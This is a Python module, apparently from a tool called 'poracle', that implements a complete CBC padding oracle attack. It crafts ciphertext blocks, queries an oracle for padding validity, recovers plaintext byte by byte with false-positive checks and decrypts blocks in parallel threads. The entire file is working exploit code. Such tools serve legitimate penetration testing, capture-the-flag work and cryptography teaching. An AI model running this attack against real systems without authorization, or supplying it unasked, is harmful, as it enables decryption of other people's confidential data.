"""CBC padding oracle attack.

Every plaintext byte is found by replacing the block in front of its
ciphertext block with a crafted one (C') and asking the oracle whether the
pair decrypts with valid padding. Bytes are recovered right to left: once the
last k-1 bytes are known, C' forces them to decrypt to the padding value k,
and only the guess for byte k can make the padding valid.
"""
import threading
from concurrent.futures import ThreadPoolExecutor
from typing import List, Optional

import structlog

from poracle import counter as counter_module
from poracle.counter import GuessCounter
from poracle.errors import AttackCancelledError, BadPaddingError, ExhaustedGuessesError, MalformedLengthError
from poracle.oracle import Oracle
from poracle.ordering import TEXT_ORDERING, build_byte_ordering
from poracle.state_queue import LatestValueQueue
from poracle.state_snapshot import ProgressBoard, ProgressSnapshot

log = structlog.get_logger()


def _query(oracle: Oracle, buffer: bytes, counter: GuessCounter) -> bool:
    counter.increment()
    return oracle.attempt_decrypt(buffer)


def find_character(
    oracle: Oracle,
    position: int,
    block: bytes,
    previous: bytes,
    plaintext: bytearray,
    ordering: bytes,
    *,
    counter: Optional[GuessCounter] = None,
    cancel: Optional[threading.Event] = None,
) -> int:
    """Recover the plaintext byte at `position` of `block`.

    `previous` is the real ciphertext block in front of `block` (or the IV)
    and `plaintext` must already hold the correct bytes after `position`.
    Guesses are tried in `ordering`; raises ExhaustedGuessesError if none fits.
    Setting `cancel` stops the search before the next query with
    AttackCancelledError.
    """
    if counter is None:
        counter = counter_module.guesses
    block_size = oracle.block_size
    pad_value = block_size - position

    # C': the known tail decrypts to pad_value, everything before position stays zero.
    crafted = bytearray(block_size)
    for i in range(position + 1, block_size):
        crafted[i] = plaintext[i] ^ pad_value ^ previous[i]

    for guess in ordering:
        if cancel is not None and cancel.is_set():
            raise AttackCancelledError()
        crafted[position] = pad_value ^ previous[position] ^ guess
        if not _query(oracle, bytes(crafted) + block, counter):
            continue

        # A hit on the last byte may really be "\x02\x02" (or longer) padding
        # if the second-to-last byte happens to decrypt to 0x02. Disturbing
        # that byte only breaks the padding in that case.
        if position == block_size - 1 and position > 0:
            check = bytearray(crafted)
            check[position - 1] ^= 1
            if not _query(oracle, bytes(check) + block, counter):
                log.debug("false positive", position=position, guess=guess)
                continue

        return guess

    raise ExhaustedGuessesError(position)


def choose_ordering(oracle: Oracle, position: int, plaintext: bytearray, has_padding: bool) -> bytes:
    """Pick the guess order for one position, most likely byte first."""
    block_size = oracle.block_size
    if has_padding and position == block_size - 1:
        # Single byte padding is the most common ending.
        return build_byte_ordering(b"\x01")
    if has_padding and position >= block_size - plaintext[block_size - 1]:
        # Still inside the padding, whose value we already know.
        return build_byte_ordering(plaintext[block_size - 1:])

    hint = oracle.character_set()
    if hint is not None:
        return build_byte_ordering(hint)
    return build_byte_ordering(TEXT_ORDERING)


def decrypt_block(
    oracle: Oracle,
    block: bytes,
    previous: bytes,
    has_padding: bool = False,
    *,
    counter: Optional[GuessCounter] = None,
    block_index: int = 1,
    progress: Optional[ProgressBoard] = None,
    cancel: Optional[threading.Event] = None,
) -> bytes:
    """Recover one plaintext block, last byte first.

    `has_padding` marks the final block of the message so that padding bytes
    are guessed first. Every recovered byte is reported to `progress` under
    `block_index`.
    """
    if counter is None:
        counter = counter_module.guesses
    block_size = oracle.block_size
    plaintext = bytearray(block_size)

    for position in reversed(range(block_size)):
        ordering = choose_ordering(oracle, position, plaintext, has_padding)
        try:
            plaintext[position] = find_character(
                oracle, position, block, previous, plaintext, ordering, counter=counter, cancel=cancel
            )
        except ExhaustedGuessesError as e:
            log.error("exhausted guesses", block=block_index, position=position)
            raise e.at_block(block_index)

        if progress is not None:
            progress.update(block_index, position, plaintext)

    log.debug("block solved", block=block_index, plaintext_hex=plaintext.hex(), guesses=counter.value)
    return bytes(plaintext)


def strip_padding(data: bytes) -> bytes:
    """Validate and remove PKCS#7 padding, raising BadPaddingError if it is inconsistent."""
    if not data:
        raise BadPaddingError("Nothing was decrypted")
    pad_length = data[-1]
    if pad_length == 0 or pad_length > len(data):
        raise BadPaddingError(f"Invalid padding length: {pad_length}")
    if data[-pad_length:] != bytes([pad_length]) * pad_length:
        raise BadPaddingError(f"Padding bytes don't match length {pad_length}: {data[-pad_length:].hex()}")
    return data[:-pad_length]


def split_blocks(data: bytes, block_size: int) -> List[bytes]:
    """Complete blocks only; a trailing partial block is dropped."""
    block_count = len(data) // block_size
    return [data[i * block_size:(i + 1) * block_size] for i in range(block_count)]


def decrypt(
    oracle: Oracle,
    ciphertext: bytes,
    iv: Optional[bytes] = None,
    *,
    workers: int = 1,
    strict: bool = False,
    counter: Optional[GuessCounter] = None,
    progress: Optional[LatestValueQueue[ProgressSnapshot]] = None,
    cancel: Optional[threading.Event] = None,
) -> Optional[bytes]:
    """Decrypt `ciphertext` using nothing but the padding oracle.

    A missing IV is taken to be all zeroes. Returns the unpadded plaintext, or
    None if the recovered data doesn't end in valid padding. Raises
    ExhaustedGuessesError if some byte could not be determined, and
    AttackCancelledError once `cancel` is set.

    Blocks only depend on the ciphertext block in front of them, so with
    `workers` > 1 they are attacked concurrently in a thread pool of that size.
    Every snapshot published to `progress` covers all blocks.
    """
    if counter is None:
        counter = counter_module.guesses
    block_size = oracle.block_size
    if iv is None:
        iv = bytes(block_size)

    data = iv + ciphertext
    if len(data) % block_size != 0:
        if strict:
            raise MalformedLengthError(
                f"Encrypted data ({len(data)} bytes with IV) isn't a multiple of the blocksize {block_size}"
            )
        log.warning("malformed length", length=len(data), block_size=block_size,
                    hint="is this a block cipher? results may be unreliable")

    blocks = split_blocks(data, block_size)
    log.debug("decrypt started", oracle=oracle.name, length=len(data),
              block_size=block_size, blocks=len(blocks), workers=workers)

    board = None
    if progress is not None and len(blocks) > 1:
        board = ProgressBoard(progress, len(blocks) - 1, block_size, counter)

    def solve(index: int) -> bytes:
        return decrypt_block(
            oracle,
            blocks[index],
            blocks[index - 1],
            has_padding=index == len(blocks) - 1,
            counter=counter,
            block_index=index,
            progress=board,
            cancel=cancel,
        )

    indexes = range(1, len(blocks))
    if workers > 1 and len(indexes) > 1:
        with ThreadPoolExecutor(max_workers=workers) as executor:
            results = list(executor.map(solve, indexes))
    else:
        results = [solve(index) for index in indexes]

    result = b"".join(results)
    try:
        return strip_padding(result)
    except BadPaddingError as e:
        log.error("bad padding", error=str(e), plaintext_hex=result.hex())
        return None
